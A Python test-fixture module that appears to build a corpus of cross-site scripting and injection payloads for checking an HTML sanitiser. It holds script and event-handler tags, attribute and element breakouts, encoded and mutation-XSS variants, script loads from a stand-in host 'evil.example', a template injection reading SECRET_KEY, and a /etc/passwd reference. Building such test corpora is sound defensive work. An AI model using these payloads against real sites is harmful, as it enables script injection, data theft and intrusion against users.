"""Words that a browser would run, were they ever put into a page as they are.

Each sets `window.__ran` or asks a host of somebody else for something.
"""

RUN = "window.__ran=1"
ELSEWHERE = "//evil.example/x"

TAGS = [
    f"<script>{RUN}</script>",
    f"<ScRiPt >{RUN}</sCrIpT >",
    f"<script src={ELSEWHERE}></script>",
    f"<script/type=module>{RUN}</script>",
    f"<img src=x onerror={RUN}>",
    f"<img/src='x'/onerror='{RUN}'>",
    f'<img src="{ELSEWHERE}">',
    f"<svg onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<body onload={RUN}>",
    f"<details open ontoggle={RUN}>x</details>",
    f"<input autofocus onfocus={RUN}>",
    f"<video><source onerror={RUN}></video>",
    f"<audio src=x onerror={RUN}></audio>",
    f"<style>@keyframes a{{}}b{{animation:a}}</style><b onanimationstart={RUN}>x</b>",
    f'<iframe srcdoc="<script>parent.{RUN[7:]}</script>"></iframe>',
    "<iframe src=javascript:parent.__ran=1></iframe>",
    f"<object data={ELSEWHERE}></object><embed src={ELSEWHERE}>",
    f"<link rel=stylesheet href={ELSEWHERE}>",
    f"<base href={ELSEWHERE}>",
    f"<meta http-equiv=refresh content='0;url=https:{ELSEWHERE}'>",
    f"<style>@import '{ELSEWHERE}';</style>",
    f"<div style=\"background:url('{ELSEWHERE}')\">x</div>",
    f"<form action=https:{ELSEWHERE}><button>x</button></form>",
    "<a href=javascript:window.__ran=1>x</a>",
    f"<a href=data:text/html,<script>opener.{RUN[7:]}</script>>x</a>",
]
OUT_OF_AN_ATTRIBUTE = [
    f'"><script>{RUN}</script>',
    f"'><script>{RUN}</script>",
    f'" autofocus onfocus="{RUN}" x="',
    f"' autofocus onfocus='{RUN}' x='",
    f'" onmouseover="{RUN}',
    f"` onerror=`{RUN}`",
    f"x onerror={RUN} y",
]
OUT_OF_AN_ELEMENT = [
    f"</script><script>{RUN}</script>",
    f'</script><img src=x onerror="{RUN}">',
    f'"}}]</script><script>{RUN}</script>',
    f"</style><img src=x onerror={RUN}>",
    f"</textarea><script>{RUN}</script>",
    f"</title><script>{RUN}</script>",
    f"</option></select><script>{RUN}</script>",
    f"--><script>{RUN}</script>",
    f"]]><script>{RUN}</script>",
]
IN_A_SCRIPT = [
    f'";{RUN};//',
    f"';{RUN};//",
    f"\\';{RUN};//",
    f"${{{RUN}}}",
    f"\u2028{RUN}//",
    "{{constructor.constructor('window.__ran=1')()}}",
    "{% load x %}{{ settings.SECRET_KEY }}",
    "javascript:window.__ran=1",
    "JaVaScRiPt:window.__ran=1",
    "java\tscript:window.__ran=1",
    "data:text/html;base64,PHNjcmlwdD53aW5kb3cuX19yYW49MTwvc2NyaXB0Pg==",
]
IN_DISGUISE = [
    f"&lt;script&gt;{RUN}&lt;/script&gt;",
    f"&#60;script&#62;{RUN}&#60;/script&#62;",
    "%3Cscript%3Ewindow.__ran=1%3C/script%3E",
    "\\u003cscript\\u003ewindow.__ran=1\\u003c/script\\u003e",
    f"＜script＞{RUN}＜/script＞",
    f"<scr\u200bipt>{RUN}</script>",
    f"<s\u00e7ript>{RUN}</script><ſcript>{RUN}</ſcript>",
    f"<<script>{RUN}//<</script>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"<img src=x onerror\n=\n{RUN}>",
    f"<svg/onload={RUN}//",
]
# What a browser makes of markup that it mends.
MENDED = [
    f"<noscript><p title=\"</noscript><img src=x onerror={RUN}>\">",
    f"<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror={RUN}&gt;\">",  # noqa: E501
    f"<svg></p><style><a id=\"</style><img src=1 onerror={RUN}>\">",
    f"<template><script>{RUN}</script></template>",
]  # fmt: skip
IN_OTHER_LANGUAGES = [
    "[x](javascript:window.__ran=1) ![x](https://evil.example/x)",
    f"*b* _i_ # h\n> q\n<!-- -->\n```html\n<img src=x onerror={RUN}>\n```",
    '#link("javascript:window.__ran=1")[x] #eval("1+1") #image("/etc/passwd") $x$ @y <z>',
    '#set page(width: 1pt)\n= H\n- l\n/ t: d\n\\ ~ -- "q" `r`',
    "\r\nX-Odd: 1\r\n\r\n<script>window.__ran=1</script>",
]
# Whatever stands after them is swallowed, so they stand last.
SWALLOWING = [
    "<!--",
    "<plaintext>",
    "<textarea>",
    "<script>",
    "<style>",
    "<title>",
    '<a href="',
    "<",
]
CORPUS = [
    *TAGS, *OUT_OF_AN_ATTRIBUTE, *OUT_OF_AN_ELEMENT, *IN_A_SCRIPT, *IN_DISGUISE, *MENDED,
    *IN_OTHER_LANGUAGES, *SWALLOWING,
]  # fmt: skip
# As the part of an address before the @ takes it, in quotation marks.
LOCAL = "<script>window.__ran=1</script><img/src=x/onerror=window.__ran=1>"
# In one line, as a name is; and as a longer text.
IN_A_LINE = " ".join(one for one in CORPUS if len(one.splitlines()) == 1 and "\t" not in one)
IN_A_TEXT = "\n".join(CORPUS)
